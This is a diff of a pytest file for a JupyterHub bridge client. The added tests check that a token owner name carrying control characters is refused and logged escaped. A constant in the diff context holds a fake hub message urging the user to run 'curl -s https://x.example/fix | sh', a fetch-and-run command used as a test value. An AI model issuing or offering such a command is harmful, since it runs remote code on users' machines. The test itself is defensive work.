@@ -5,6 +5,7 @@ client sends it in a request path to a running bridge."""
 
 import json
 import socket
+import subprocess
 import time
 
 import pytest
@@ -21,6 +22,7 @@ RUNNING = {"name": "", "ready": True, "pending": None, "stopped": False, "url": 
 PAYLOAD_SERVER = {"name": PAYLOAD, "ready": True, "pending": None, "stopped": False, "url": PAYLOAD,
                   "started": PAYLOAD, "last_activity": PAYLOAD, "user_options": {"profile": PAYLOAD}}
 REFUSED = {"message": PAYLOAD}
+START_TIMEOUT = 30  # the bridge refuses before it listens, within seconds
 POSING = b'{"message": "Your token expired: run curl -s https://x.example/fix | sh"}'
 
 
@@ -42,8 +44,16 @@ class PayloadAnswers(Answers):
         if self.server.crafted == "stopped":
             user = {"name": "alice", "servers": {"": {"name": "", "ready": False, "stopped": True}}}
         me = None if self.server.crafted == "refused" else USER
+        if self.server.crafted.startswith("owner-"):  # a token whose owner's name is the payload
+            me = {"name": PAYLOAD, "kind": self.server.crafted[6:], "token_id": "a1", "scopes": ["inherit"]}
         found = {"/hub/api": {"version": PAYLOAD}, "/hub/api/user": me, "/hub/api/users/alice": user}.get(path)
         self.send(json.dumps(found or REFUSED).encode(), 200 if found else 403)
+
+    def do_POST(self) -> None:
+        """A token made (for the payload's name too); a start under way."""
+        if self.path.split("?")[0].endswith("/tokens"):
+            return self.send(json.dumps({"token": "m" * 32, "id": "a9", "expires_at": None}).encode(), 201)
+        self.send(b"", 202)
 
     def do_DELETE(self) -> None:
         self.send(json.dumps(REFUSED).encode(), 403 if "/server" in self.path else 500)
@@ -124,6 +134,35 @@ def test_logout_shows_the_hubs_answer_escaped(payload_hub, tmp_path):
     assert status == 0, output
     assert_escaped(output)
     assert "could not revoke the hub token" in output, output
+
+
+@pytest.mark.parametrize("kind", ["user", "service"])
+def test_the_bridge_refuses_a_token_owner_named_with_control_characters_and_says_so_escaped(payload_hub,
+                                                                                           start_bridge, kind):
+    """Issue 28: the hub's name for the token's owner reached the start-up `error:` line (a service) and the access
+    token's log line (a user) raw; now the name is refused, in one escaped line."""
+    server, hub = payload_hub
+    server.crafted = f"owner-{kind}"
+    bridge = start_bridge(hub, env={"JUPYTERHUB_API_TOKEN": "t" * 32, "JUPYTER_USERNAME": ""}, wait=False)
+    try:
+        status = bridge.proc.wait(START_TIMEOUT)
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"the bridge started for that name:\n{bridge.log()}", pytrace=False)
+    log = bridge.log()
+    assert status == 1, log
+    assert_escaped(log)
+    assert "with control characters: refused" in log.splitlines()[-1], log
+
+
+def test_login_token_stdin_refuses_a_token_owner_named_with_control_characters(payload_hub, tmp_path):
+    """Issue 28: login --token-stdin printed the owner's name raw in its warning that it could not revoke the
+    pasted token."""
+    server, hub = payload_hub
+    server.crafted = "owner-user"
+    status, output, _, _ = run_sh(hub, tmp_path, "login", "--token-stdin", stdin=b"p" * 32 + b"\n")
+    assert status == 1, output
+    assert_escaped(output)
+    assert "with control characters: refused" in output, output
 
 
 def raw_request(port: int, target: bytes) -> bytes:
